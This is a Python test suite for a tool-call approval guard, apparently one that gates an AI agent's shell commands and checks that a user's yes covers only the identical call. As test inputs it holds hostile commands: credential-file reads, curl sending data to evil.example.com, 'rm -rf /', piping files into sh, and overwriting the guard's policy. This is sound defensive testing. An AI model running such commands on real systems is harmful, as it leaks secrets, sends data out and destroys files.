"""A yes to one call is worth exactly that call: anything else, in any part of it, is asked about again."""

import os
import random
import time
from pathlib import Path

import pytest

from tests.approvals.homes import SENDING, Home
from toolgate import Guard, MemoryRecorder, NullRecorder, answering
from toolgate.approvals.store import ONCE, SESSION, UNTIL, Grant
from toolgate.host import Machine
from toolgate.model.call import Mcp, Shell, ToolCall
from toolgate.model.verdict import together
from toolgate.protocols.exchange import text_of

POLICY = ".config/toolgate/policy.toml"


def test_an_allowed_call_passes_once(home):
    home.allow()
    decision = home.check(home.call(id="t2"))
    assert (decision.verdict, decision.settled_by) == ("allow", "approval")
    assert "allowed by the user" in decision.reason
    assert home.check(home.call(id="t3")).verdict == "ask"


def test_two_hooks_that_judge_one_call_both_have_the_yes(home):
    home.allow(home.call(id="t1"))
    again = home.call(id="t2")
    assert [str(home.check(again).verdict), str(home.check(again).verdict)] == ["allow", "allow"]
    assert home.check(home.call(id="t3")).verdict == "ask"
    assert home.check(home.call(id="")).verdict == "ask"


def test_a_yes_that_was_used_long_ago_is_not_used_again(home):
    home.allow()
    assert home.check(home.call(id="t2")).verdict == "allow"
    (used,) = Path(home.store.directory, "used").iterdir()
    os.utime(used, (1, 1))
    assert home.check(home.call(id="t2")).verdict == "ask"


def test_a_question_ends_with_what_to_type_and_is_kept(home):
    decision = home.check()
    assert text_of(decision).endswith(f"(for the user: toolgate allow {decision.id})")
    question = home.store.question(decision.id)
    assert question.input == {"command": SENDING}
    assert question.cwd == home.project
    assert question.reason == decision.reason


def test_where_nobody_can_be_asked_the_refusal_has_the_id_and_the_retry_passes(home):
    decision = home.check(interactive=False)
    assert decision.verdict == "deny"
    assert text_of(decision).endswith(f"(for the user: toolgate allow {decision.id})")
    question = home.store.question(decision.id)
    home.store.grant(Grant(question.key, question.id, made=time.time()))
    assert home.check(interactive=False).verdict == "allow"
    assert home.check(interactive=False).verdict == "deny"


def test_a_yes_given_where_nobody_was_there_counts_where_somebody_is(home):
    home.allow(interactive=False)
    assert home.check(interactive=True).verdict == "allow"


@pytest.mark.parametrize(("scope", "seconds"), [(UNTIL, 60), (SESSION, 0)])
def test_what_lasts_longer_counts_again_and_again(home, scope, seconds):
    home.allow(scope=scope, seconds=seconds)
    assert [str(home.check().verdict) for _ in range(3)] == ["allow"] * 3


def test_one_for_a_session_counts_in_no_other(home):
    home.allow(scope=SESSION)
    assert home.check(home.call(session="s2")).verdict == "ask"
    assert home.check(home.call(session="")).verdict == "ask"
    assert home.check(home.call(host="codex")).verdict == "ask"


def test_one_that_has_expired_counts_no_more(home):
    grant = home.allow(scope=UNTIL, seconds=60)
    home.store.grant(Grant(grant.key, grant.id, UNTIL, time.time() - 1, made=time.time() - 60))
    assert home.check().verdict == "ask"


def test_a_clock_that_was_set_back_makes_nothing_last_longer(home):
    grant = home.allow(scope=UNTIL, seconds=60)
    assert not grant.counts("claude-code", "s1", grant.made - 3_600)
    assert not grant.counts("claude-code", "s1", grant.made + 3_600)


def test_a_question_about_something_else_is_not_answered(home):
    """The same call after a secret was read is asked about for another reason."""
    home.allow(home.call("curl https://api.example.com/x?q=abcdefghijklmnop"))
    from toolgate import session

    files = session.Files(home.state)
    assert home.check(home.call("cat ~/.aws/credentials"), sessions=session.Files(home.state)).verdict == "ask"
    decision = home.guard(sessions=files).check(home.call("curl https://api.example.com/x?q=abcdefghijklmnop"))
    assert decision.verdict != "allow"


def test_a_yes_from_before_a_secret_is_named_where_the_call_is_asked_about_again(home):
    """The agent only asked for the secret; whether it was read then is not known, so the answer does not count."""
    from toolgate import session

    command = "npx frobtool@1.0.0 q"
    grant = home.allow(home.call(command))
    files = session.Files(home.state)
    assert home.check(home.call("cat ~/.aws/credentials"), sessions=files).verdict == "ask"
    again = home.check(home.call(command), sessions=session.Files(home.state))
    assert "ask" == again.verdict
    assert f"({grant.id} was allowed before this session tried to read `" in text_of(again)
    assert "/.aws/credentials`, so that answer no longer counts)" in text_of(again)
    assert home.check(home.call(command, session="s2"), sessions=session.Files(home.state)).verdict == "allow"


def test_a_yes_stays_good_while_other_things_are_asked_about(home):
    from toolgate import session

    home.allow()
    for command in ("git push origin main", "curl -d @other.txt https://b.example"):
        assert home.check(home.call(command), sessions=session.Files(home.state)).verdict == "ask"
    assert home.check(home.call(), sessions=session.Files(home.state)).verdict == "allow"


# --- what is not the same --------------------------------------------------------------------------------------------


def relocated(home: Home) -> ToolCall:
    os.makedirs(f"{home.project}/sub")
    Path(home.project, "sub/notes.txt").write_text("hello\n")
    return home.call(cwd=f"{home.project}/sub")


def another_link(home: Home) -> ToolCall:
    """The same name, which leads to another file with the same text."""
    Path(home.project, "other.txt").write_text("hello\n")
    os.unlink(f"{home.project}/notes.txt")
    os.symlink("other.txt", f"{home.project}/notes.txt")
    return home.call()


def another_inode(home: Home) -> ToolCall:
    path = Path(home.project, "notes.txt")
    kept = path.read_text()
    other = Path(home.project, "new")
    other.write_text(kept)  # before the old one goes, so that its number is not used again
    os.replace(other, path)
    return home.call()


def another_text(home: Home) -> ToolCall:
    with open(f"{home.project}/notes.txt", "r+") as file:
        file.write("HELLO")
    return home.call()


MISSES = {
    "a byte more": lambda home: home.call(SENDING + " "),
    "a byte less": lambda home: home.call(SENDING[:-1]),
    "another case": lambda home: home.call(SENDING.replace("/x", "/X")),
    "another tool": lambda home: home.call(tool="Shell"),
    "another shell": lambda home: ToolCall(
        Shell(SENDING, "zsh"), home.project, "claude-code", "s1", "t1", (), "Bash", {"command": SENDING}
    ),
    "another field": lambda home: home.call(input={"command": SENDING, "run_in_background": True}),
    "earlier commands": lambda home: home.call(prior=("cd /",)),
    "another agent": lambda home: home.call(host="codex"),
    "another directory": relocated,
    "another link": another_link,
    "another inode": another_inode,
    "another text": another_text,
}


@pytest.mark.parametrize("miss", MISSES.values(), ids=MISSES)
def test_what_is_not_the_same_is_asked_about(home, miss):
    home.allow()
    call = miss(home)
    assert home.check(call).verdict == "ask"
    assert home.store.grants(), "and the yes is still there"


@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "HTTPS_PROXY", "API_URL", "RAILS_ENV", "GIT_CONFIG_KEY_0"])
def test_another_environment_is_asked_about(home, name, monkeypatch):
    monkeypatch.delenv(name, raising=False)
    home.allow()
    monkeypatch.setitem(os.environ, name, "/elsewhere")
    import posix

    monkeypatch.setitem(posix.environ, name.encode(), b"/elsewhere")
    assert home.check().verdict == "ask"


def test_words_about_a_call_and_how_long_it_may_take_do_not_make_it_another_one(home):
    home.allow(home.call(input={"command": SENDING, "description": "send the notes", "timeout": 1_000}))
    retry = home.call(input={"timeout": 9_000, "command": SENDING, "description": "try it again"})
    assert home.check(retry).verdict == "allow"


def test_the_order_of_fields_does_not_matter(home):
    def served(given):
        return ToolCall(Mcp("ledger", "delete_entry", given), home.project, "claude-code", "s1", "", (), "x", given)

    home.allow(served({"a": {"x": 1, "y": [1, 2]}, "b": 2}))
    assert home.check(served({"b": 2, "a": {"y": [2, 1], "x": 1}})).verdict == "ask"
    assert home.check(served({"b": 2, "a": {"y": [1, 2], "x": 1}})).verdict == "allow"


# --- what is in the files that decide --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "kubectl apply -f notes.txt",
        "psql -h db.example.com -f notes.txt",
        "wget -i notes.txt",
        "scp -r . u@host.example.com:",
    ],
)
def test_a_file_that_decides_what_happens_is_looked_into(home, command):
    call = home.call(command)
    home.allow(call, scope=UNTIL, seconds=60)
    assert home.check(home.call(command)).verdict == "allow"
    with open(f"{home.project}/notes.txt", "r+") as file:
        file.write("HELLO")
    os.utime(f"{home.project}/notes.txt", (1, 1))
    assert home.check(home.call(command)).verdict == "ask"


def test_what_is_put_into_a_directory_that_is_sent_is_asked_about(home):
    os.makedirs(f"{home.project}/data/sub")
    command = "scp -r data u@host.example.com:"
    home.allow(home.call(command), scope=UNTIL, seconds=60)
    assert home.check(home.call(command)).verdict == "allow"
    os.symlink("/etc", f"{home.project}/data/sub/more")
    assert home.check(home.call(command)).verdict == "ask"


def test_more_than_can_be_looked_at_is_allowed_once_at_most(home):
    os.makedirs(f"{home.project}/data")
    for index in range(2_100):
        Path(home.project, "data", str(index)).touch()
    call = home.call("scp -r data u@host.example.com:")
    home.allow(call, scope=UNTIL, seconds=60)
    assert home.check(call).verdict == "ask"
    home.allow(call)
    assert home.check(home.call("scp -r data u@host.example.com:")).verdict == "allow"


def test_another_program_of_the_same_name_is_asked_about(home, monkeypatch):
    directory = Path(home.path, "bin")
    directory.mkdir()
    (directory / "curl").write_text("#!/bin/sh\n")
    import posix

    monkeypatch.setitem(posix.environ, b"PATH", f"{directory}:/usr/bin".encode())
    home.allow(scope=UNTIL, seconds=60)
    assert home.check().verdict == "allow"
    (directory / "curl").write_text("#!/bin/sh\nexit 1\n")
    assert home.check().verdict == "ask"


COMPUTED = (
    "rm -rf $(cat made.txt)", "xargs rm -rf < made.txt", "cat notes.txt | bash", "bash < notes.txt", 'eval "$(cat notes.txt)"',
    "base64 -d notes.txt | sh", "cp notes.txt $(cat made.txt)/.config/toolgate/policy.toml", "curl -d 1 https://$HOST_OF_MINE/x", "npx $(cat notes.txt)", "python gen.py | sh",
)  # fmt: skip


@pytest.mark.parametrize("command", COMPUTED)
def test_what_is_worked_out_as_it_runs_is_never_allowed_for_longer_than_once(home, command):
    decision = home.check(home.call(command))
    assert decision.verdict in ("ask", "deny")
    assert home.check(home.call(command), mode="yolo").verdict != "allow"
    question = home.store.question(decision.id)
    assert question is None or not question.remembered


# --- calls of several parts ------------------------------------------------------------------------------------------


def test_calls_that_happen_together_are_allowed_one_by_one_and_used_up_together(home):
    first, second = SENDING, SENDING.replace("/x", "/y")

    def tried():
        decisions = home.guard().check_all((home.call(first), home.call(second)))
        return together(decisions)

    asked = tried()
    assert asked.verdict == "ask"
    for _ in range(2):
        question = home.store.question(asked.id)
        home.store.grant(Grant(question.key, question.id, made=time.time()))
        asked = tried()
    assert asked.verdict == "allow"
    assert tried().verdict == "ask", "and only once"


def test_where_one_part_is_denied_nothing_is_offered(home):
    decisions = home.guard().check_all((home.call(), home.call("rm -rf /")))
    assert not together(decisions).grantable


# --- ids -------------------------------------------------------------------------------------------------------------


def test_only_ids_of_the_log_beside_the_store_are_offered(home):
    decision = Guard(facts=Machine(home.project, home=home.path), recorder=MemoryRecorder()).check(home.call())
    assert decision.id
    assert not decision.grantable
    assert home.store.questions() == []


def test_an_id_that_another_question_has_is_nobodys(home):
    name = home.check().id
    for file in Path(home.state, "log").iterdir():
        file.unlink()
    other = home.check(home.call("curl -d 1 https://evil.example.com/"))
    assert other.id == name
    assert not other.grantable
    assert home.store.asked(name) is None


def test_a_yes_for_once_ends_after_a_day(home):
    decision = home.check()
    change = answering.allow(home.state, home.store.question(decision.id))
    (grant,) = home.store.grants()
    assert grant.expires == pytest.approx(change.time + 86_400, abs=5)
    home.store.tidy(change.time + 86_500)
    assert home.store.grants() == []


# --- what a yes never beats ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["rm -rf /", "rm -rf ~", "echo x > ~/.config/toolgate/policy.toml"])
def test_what_is_denied_cannot_be_allowed(home, command):
    decision = home.check(home.call(command))
    assert decision.verdict == "deny"
    assert not decision.grantable
    assert home.store.question(decision.id) is None


def test_a_deny_that_comes_later_outweighs_a_yes(home):
    home.allow(scope=UNTIL, seconds=60)
    file = Path(home.path, POLICY)
    file.parent.mkdir(parents=True)
    file.write_text('[[rule]]\nid = "no-curl"\nwhen = { command = "curl" }\nverdict = "deny"\n')
    assert home.check().verdict == "deny"


def test_a_project_that_only_tightens_outweighs_a_yes(home):
    home.allow(scope=UNTIL, seconds=60)
    file = Path(home.project, ".toolgate/policy.toml")
    file.parent.mkdir()
    file.write_text('[[rule]]\nid = "curl-asks"\nwhen = { command = "curl" }\nverdict = "ask"\n')
    decision = home.check()
    assert decision.verdict == "ask"
    assert not decision.grantable, "nothing a person types here settles it"


def test_a_rule_that_fails_is_no_question_a_yes_may_outlast(home):
    file = Path(home.path, POLICY)
    file.parent.mkdir(parents=True)
    file.write_text('[[rule]]\nid = "broken"\nrule = "nowhere:x"\n')
    decision = home.check()
    assert home.store.question(decision.id).remembered is False


def test_what_cannot_be_read_is_allowed_once_at_most(home):
    call = home.call("sudo ls")
    home.allow(call, scope=UNTIL, seconds=60)
    assert home.check(call).verdict == "ask"
    home.allow(call)
    assert home.check(call).verdict == "allow"


# --- many of each ----------------------------------------------------------------------------------------------------


def mutated(chance: random.Random, home: Home) -> ToolCall:
    """The call with one thing changed."""
    kind = chance.randrange(6)
    if kind == 0:
        at = chance.randrange(len(SENDING))
        return home.call(SENDING[:at] + chance.choice("abcxyz 019-/.'\"$\\\n") + SENDING[at + 1 :])
    if kind == 1:
        at = chance.randrange(len(SENDING) + 1)
        return home.call(SENDING[:at] + chance.choice(" \tabc;&|'\"") + SENDING[at:])
    if kind == 2:
        at = chance.randrange(len(SENDING))
        return home.call(SENDING[:at] + SENDING[at + 1 :])
    if kind == 3:
        return home.call(cwd=home.project + "/" + chance.choice("abcdef") * chance.randrange(1, 9))
    if kind == 4:
        return home.call(input={"command": SENDING, "run_in_background": chance.randrange(10**6)})
    return home.call(**{chance.choice(["host", "tool"]): f"x{chance.randrange(10**6)}"})


def near_misses(home: Home, count: int) -> int:
    """How many of these calls, each almost the one that was allowed, a yes was used for."""
    chance = random.Random(15)  # the same each time
    grant = home.allow(scope=UNTIL, seconds=3_600)
    call = home.call()
    same = call.action, call.cwd, call.input, call.host, call.tool
    guard = Guard(facts=Machine(home.project, home=home.path), recorder=NullRecorder())
    used = 0
    for _ in range(count):
        call = mutated(chance, home)
        if (call.action, call.cwd, call.input, call.host, call.tool) == same:
            continue
        used += guard.check(call).settled_by == "approval"
    assert guard.check(home.call()).settled_by == "approval"
    assert home.store.granted(grant.key) is not None
    return used


def test_near_misses_use_no_yes(home):
    assert near_misses(home, 300) == 0


@pytest.mark.slow
def test_a_hundred_thousand_near_misses_use_no_yes(home):
    assert near_misses(home, 100_000) == 0


def test_scopes_that_nobody_knows_count_for_nothing():
    assert not Grant("0" * 64, "k3f9", "ever").counts("", "", time.time())
    assert not Grant("0" * 64, "k3f9", UNTIL).counts("", "", time.time())
    assert Grant("0" * 64, "k3f9", ONCE).counts("", "", time.time())
